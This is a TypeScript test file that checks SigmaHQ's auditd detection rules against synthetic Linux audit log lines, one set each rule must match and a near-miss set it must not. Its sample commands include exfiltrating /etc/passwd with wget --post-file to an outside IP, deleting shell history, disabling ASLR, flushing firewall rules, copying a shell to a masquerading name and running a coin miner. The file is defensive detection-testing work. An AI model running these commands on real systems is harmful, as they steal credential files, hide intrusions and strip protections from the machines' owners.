import { randomUUID } from 'node:crypto';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { compileRules } from '../../src/detect/compile/compile-rules.ts';
import { loadPipelines } from '../../src/detect/load-pipelines.ts';
import { parseRuleFile } from '../../src/detect/parse/rule-file.ts';
import type { SingleRule } from '../../src/detect/rule.ts';
import { testDatabase, type TestDatabase } from '../../testing/database.ts';

/** SigmaHQ's auditd rules over lines as auditd writes them: each must find one, and miss one that comes close. */

const corpus = fileURLToPath(new URL('../../../../shared/data/sigmahq', import.meta.url));
const present = existsSync(corpus);
if (!present && process.env['LOGLAKE_CORPORA'] === 'required') throw new Error(`no corpus at ${corpus}`);
if (!present) process.stdout.write('SigmaHQ is not there: its auditd rules are not tried\n');

const head = (type: string) => `type=${type} msg=audit(1795248001.001:1): `;
/** As the kernel does it: hexadecimal where a plain text will not do. */
const written = (value: string) =>
  /["\s]|[^!-~]/.test(value) ? Buffer.from(value).toString('hex').toUpperCase() : `"${value}"`;
const execve = (...args: readonly string[]) =>
  `${head('EXECVE')}argc=${String(args.length)} ${args.map((arg, index) => `a${String(index)}=${written(arg)}`).join(' ')}`;
const touched = (name: string, nametype = 'NORMAL') =>
  `${head('PATH')}item=0 name=${written(name)} inode=5 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=${nametype} cap_fp=0OUID="root" OGID="root"`;

interface Call {
  readonly number: number;
  readonly arch?: string;
  readonly a0?: string;
  readonly euid?: number;
  readonly exe?: string;
  readonly key?: string;
  /** What auditd adds with log_format = ENRICHED. */
  readonly tail?: string;
}
function called({ number, arch = 'c000003e', a0 = '1', euid = 0, exe = '/usr/bin/true', key = '', tail = '' }: Call) {
  const comm = exe.split('/').at(-1) ?? '';
  const ids = `ppid=1 pid=2 auid=1000 uid=0 gid=0 euid=${String(euid)} tty=pts0 ses=3`;
  return `${head('SYSCALL')}arch=${arch} syscall=${String(number)} success=yes exit=0 a0=${a0} a1=0 a2=0 a3=0 items=0 ${ids} comm=${written(comm)} exe=${written(exe)} key=${key === '' ? '(null)' : written(key)}${tail}`;
}
const service = (type: string, unit: string) =>
  `${head(type)}pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=${unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'`;
const account = (type: string) =>
  `${head(type)}pid=9 uid=0 auid=1000 ses=3 msg='op=changing acct="mallory" exe="/usr/sbin/tool" hostname=? addr=? terminal=? res=success'`;
const arm = 'c00000b7';

/** File of the rule without lnx_auditd_ and .yml; lines that it must find; lines that it must miss. */
const tried: readonly (readonly [string, readonly string[], readonly string[]])[] = [
  [
    'exploit_cve_2026_31431_af_alg_socket_creation',
    [called({ number: 41, a0: '26' })],
    [called({ number: 41, a0: '2' }), called({ number: 41, a0: '26', exe: '/usr/sbin/cryptsetup' })],
  ],
  [
    'audio_capture',
    [execve('arecord', '-vv', '-fdat'), called({ number: 319, exe: '/usr/bin/ecasound' })],
    [execve('arecord', '-vv'), called({ number: 318, exe: '/usr/bin/ecasound' })],
  ],
  [
    'split_file_into_pieces',
    [called({ number: 59, exe: '/usr/bin/split' })],
    [called({ number: 59, exe: '/usr/bin/csplit' })],
  ],
  [
    'network_service_scanning',
    [called({ number: 42, exe: '/usr/bin/nmap', key: 'network_connect_4' })],
    [called({ number: 42, exe: '/usr/bin/nmap' })],
  ],
  [
    'susp_special_file_creation_via_mknod_syscall',
    [called({ number: 133 }), called({ number: 14, arch: '40000003' })],
    [called({ number: 133, arch: arm }), called({ number: 14 })],
  ],
  [
    'web_rce',
    [called({ number: 59, euid: 33 }), called({ number: 322, euid: 33 }), called({ number: 221, arch: arm, euid: 33 })],
    [called({ number: 59 }), called({ number: 221, euid: 33 })],
  ],
  [
    'susp_discovery_sysinfo_syscall',
    [called({ number: 99 }), called({ number: 179, arch: arm })],
    [called({ number: 99, exe: '/opt/splunk/bin/splunkd' })],
  ],
  [
    'create_account',
    [called({ number: 59, exe: '/usr/sbin/useradd' }), account('ADD_USER')],
    [account('DEL_USER'), touched('/usr/sbin/useradd')],
  ],
  [
    'clean_disable_dmesg_logs_via_syslog',
    [called({ number: 103, a0: '5' }), called({ number: 116, arch: arm, a0: '4' })],
    [called({ number: 103, a0: '3' })],
  ],
  [
    'susp_exe_folders',
    [called({ number: 59, exe: '/tmp/x y' }), called({ number: 59, exe: '/home/bob/public_html/x' })],
    [called({ number: 59, exe: '/opt/tmp/x' })],
  ],
  [
    'load_module_insmod',
    [`${head('SYSCALL')}arch=c000003e syscall=313 success=yes pid=2 comm="insmod" exe="/usr/bin/kmod" key=(null)`],
    [called({ number: 313, exe: '/usr/bin/kmod' })],
  ],
  [
    'susp_c2_commands',
    [
      called({ number: 59, key: 'susp_activity' }),
      called({ number: 59, key: 'susp_activity', tail: 'ARCH=x86_64 SYSCALL=execve AUID="bob" UID="root"' }),
    ],
    [called({ number: 59, key: 'susp_activity_not' })],
  ],
  [
    'system_info_discovery',
    [touched('/etc/lsb-release'), execve('uptime'), execve('grep', 'vbox'), execve('kmod', 'list')],
    [execve('kmod', 'static-nodes')],
  ],
  [
    'keylogging_with_pam_d',
    [touched('/etc/pam.d/system-auth'), `${head('TTY')}tty pid=3 uid=0 major=136 minor=0 comm="bash" data=6C730D`],
    [touched('/etc/pam.d/sshd')],
  ],
  [
    'disable_aslr_protection',
    [
      called({ number: 135, a0: '40000' }),
      called({ number: 92, arch: arm, a0: '40000' }),
      execve('sysctl', '-w', 'kernel.randomize_va_space=0'),
    ],
    [called({ number: 135, a0: '0' }), execve('sysctl', '-w', 'kernel.randomize_va_space=2')],
  ],
  [
    'data_compressed',
    [execve('zip', 'x'), execve('gzip', '-k', 'x'), execve('tar', '-czf', 'x')],
    [execve('tar', '-xzf', 'x')],
  ],
  [
    'clipboard_image_collection',
    [execve('xclip', '-selection', 'clipboard', '-t', 'image/png', '-o')],
    [execve('xclip', '-selection', 'clipboard', '-t', 'text/html', '-o')],
  ],
  ['masquerading_crond', [execve('cp', '/bin/sh', '/tmp/crond')], [execve('cp', '/bin/sh', '/tmp/crontab')]],
  [
    'screencaputre_xwd',
    [execve('xwd', '-root', '-out', 'a b.xwd'), execve('xwd', '-out', 'x.xwd')],
    [execve('xwd', '-id', 'x.xwd')],
  ],
  ['dd_delete_file', [execve('dd', 'if=/dev/null', 'of=x')], [execve('dd', 'if=/dev/urandom')]],
  [
    'steghide_embed_steganography',
    [execve('steghide', 'embed', '-cf', 'a.jpg', '-ef', 'b.txt')],
    [execve('steghide', 'embed', '-cf', 'a.jpg')],
  ],
  [
    'hidden_files_directories',
    [execve('touch', '/tmp/.x'), execve('mkdir', '-p', '.hidden dir')],
    [execve('touch', './x')],
  ],
  ['chattr_immutable_removal', [execve('chattr', '-i', '/etc/x')], [execve('chattr', '+a', '/etc/x')]],
  ['unzip_hidden_zip_files_steganography', [execve('unzip', 'my picture.jpg')], [execve('unzip', 'x.zip')]],
  ['capabilities_discovery', [execve('getcap', '-r', '/')], [execve('getcap', '-r', '/usr')]],
  ['change_file_time_attr', [execve('touch', '-t', '202601010000', 'x')], [execve('ls', '-t')]],
  [
    'steghide_extract_steganography',
    [execve('steghide', 'extract', '-sf', 'a.png')],
    [execve('steghide', 'extract', '-sf', 'a.txt')],
  ],
  [
    'network_sniffing',
    [execve('tcpdump', '-c', '5', '-i', 'eth0'), execve('tshark', '-c', '5', '-i')],
    [execve('tcpdump', '-r', '5', '-i')],
  ],
  ['susp_cmds', [execve('chmod', '777', 'x'), execve('cp', '/bin/sh', 'x')], [execve('chmod', '644', 'x')]],
  ['modify_system_firewall', [execve('ufw', 'delete', '1'), execve('nft', 'flush ruleset')], [execve('ufw', 'status')]],
  [
    'coinminer',
    [execve('xmrig', '--cpu-priority=5'), execve('m', 'a', 'b', 'c', 'd', 'e', 'f', '--cpu-priority')],
    [execve('m', '--priority')],
  ],
  ['find_cred_in_files', [execve('grep', '-ri', 'password', '/')], [execve('grep', '-ri', 'passport', '/')]],
  [
    'screencapture_import',
    [execve('import', '-window', 'root', 'x.png'), execve('import', 'x.jpg')],
    [execve('import', 'x.txt')],
  ],
  ['susp_service_reload_or_restart', [execve('systemctl', 'restart', 'x')], [execve('systemctl', 'status', 'x')]],
  ['user_discovery', [execve('whoami'), execve('w')], [execve('whois', 'x')]],
  ['system_shutdown_reboot', [execve('shutdown', '-h', 'now'), execve('init', '6')], [execve('shut', 'down')]],
  ['file_or_folder_permissions', [execve('/bin/chmod', '+x', 'x')], [execve('chgrp', 'x', 'y')]],
  ['clipboard_collection', [execve('xclip', '-sel', 'clip', '-o')], [execve('xclip', '-sel', 'clip')]],
  ['hidden_zip_files_steganography', [execve('cat', 'a.jpg', 'b.zip')], [execve('cat', 'a.jpg', 'b.txt')]],
  [
    'susp_histfile_operations',
    [execve('rm', '/root/.bash_history'), execve('sh', '-c', 'rm ~/.zsh_history')],
    [execve('rm', '/root/.bashrc')],
  ],
  [
    'data_exfil_wget',
    [execve('wget', '--post-file=/etc/passwd', 'http://198.51.100.7')],
    [execve('wget', 'http://198.51.100.7')],
  ],
  [
    'binary_padding',
    [execve('truncate', '-s', '+10M', 'x'), execve('dd', 'if=/dev/urandom', 'bs=1')],
    [execve('dd', 'if=/dev/urandom', 'of=x')],
  ],
  [
    'password_policy_discovery',
    [touched('/etc/login.defs'), execve('chage', '--list'), execve('passwd', '-S')],
    [execve('passwd', 'bob')],
  ],
  ['ld_so_preload_mod', [touched('/etc/ld.so.preload')], [touched('/etc/ld.so.cache')]],
  ['magic_system_request_key', [touched('/proc/sysrq-trigger')], [touched('/proc/sysrq-trigger2')]],
  ['auditing_config_change', [touched('/etc/audit/rules.d/my own.rules')], [touched('/etc/auditor/x')]],
  ['logging_config_change', [touched('/etc/rsyslog.conf')], [touched('/etc/rsyslog.d/x')]],
  ['bpfdoor_file_accessed', [touched('/var/run/haldrund.pid')], [touched('/var/run/haldrund')]],
  ['system_info_discovery2', [touched('/proc/version'), touched('/etc/debian_version')], [touched('/etc/hosts')]],
  ['unix_shell_configuration_modification', [touched('/home/bob/.bashrc')], [touched('/srv/bob/.bashrc')]],
  [
    'systemd_service_creation',
    [touched('/etc/systemd/system/x.service', 'CREATE')],
    [touched('/etc/systemd/system/x.service')],
  ],
  [
    'hidden_binary_execution',
    [touched('/home/bob/my dir/.x')],
    [touched('/home/bob/.cache/x'), touched('/home/bob/x')],
  ],
  [
    'disable_system_firewall',
    [
      service('SERVICE_STOP', 'firewalld'),
      `Nov 21 08:00:01 web1 kernel: audit: type=1131 audit(1795248001.001:1): pid=1 uid=0 msg='unit=ufw comm="systemd" res=success'`,
    ],
    [service('SERVICE_START', 'firewalld'), service('SERVICE_STOP', 'cron')],
  ],
  // Its keyword spans two arguments, which no record holds in one value: it can find only what one argument says.
  [
    'bpfdoor_port_redirect',
    [execve('/sbin/iptables', '-t', 'nat', '--to-ports 42391')],
    [execve('/sbin/iptables', '-t', 'nat', '-A', 'PREROUTING', '-j', 'REDIRECT', '--to-ports', '42391')],
  ],
];

/** The auditd rules by name; SigmaHQ keeps one of them beside its Linux folder. */
function readRules(): Map<string, string> {
  const files = readdirSync(corpus, { recursive: true, encoding: 'utf8' }).filter((file) =>
    /lnx_auditd_[^/]*\.yml$/.test(file)
  );
  return new Map(
    files.map((file) => [path.basename(file, '.yml').replace('lnx_auditd_', ''), path.join(corpus, file)])
  );
}

const rawId = z.object({ raw_id: z.string() });

describe.skipIf(!present)('the auditd rules of SigmaHQ', () => {
  const files = present ? readRules() : new Map<string, string>();
  const sent = tried.map(([name, found, missed]) => ({
    name,
    found: found.map((raw) => ({ id: randomUUID(), raw })),
    missed: missed.map((raw) => ({ id: randomUUID(), raw })),
  }));
  let db: TestDatabase;
  beforeAll(async () => {
    db = await testDatabase({ parsers: true });
    const rows = sent.flatMap(({ found, missed }) => [...found, ...missed]);
    await db.store.insert(
      'raw_log',
      rows.map((row) => ({ ...row, received_at: '2026-11-21 12:00:00.000' }))
    );
  });
  afterAll(() => db.drop());

  test('are all tried', () => {
    expect(tried.map(([name]) => name).sort()).toEqual([...files.keys()].sort());
  });

  test.each(sent)('$name finds its lines, and misses those that come close', async ({ name, found, missed }) => {
    const file = files.get(name) ?? '';
    const { pipeline } = await loadPipelines();
    const { rules } = compileRules(parseRuleFile(readFileSync(file, 'utf8'), name).rules, pipeline);
    const single = rules.find((rule): rule is SingleRule => rule.kind === 'single');
    if (single === undefined) throw new Error('no rule');
    const { sql, params } = single.compile();
    const ids = [...found, ...missed].map(({ id }) => id);
    const statement = {
      sql: `SELECT raw_id FROM event WHERE raw_id IN {ids:Array(UUID)} AND ${sql}`,
      params: { ...params, ids },
    };
    const rows = await db.store.compiled('test', statement, rawId, { timeoutMs: 30_000, rowsMax: 100 });
    const selected = new Set(rows.map((row) => row.raw_id));
    expect(found.filter(({ id }) => !selected.has(id)).map(({ raw }) => raw)).toEqual([]);
    expect(missed.filter(({ id }) => selected.has(id)).map(({ raw }) => raw)).toEqual([]);
  });
});
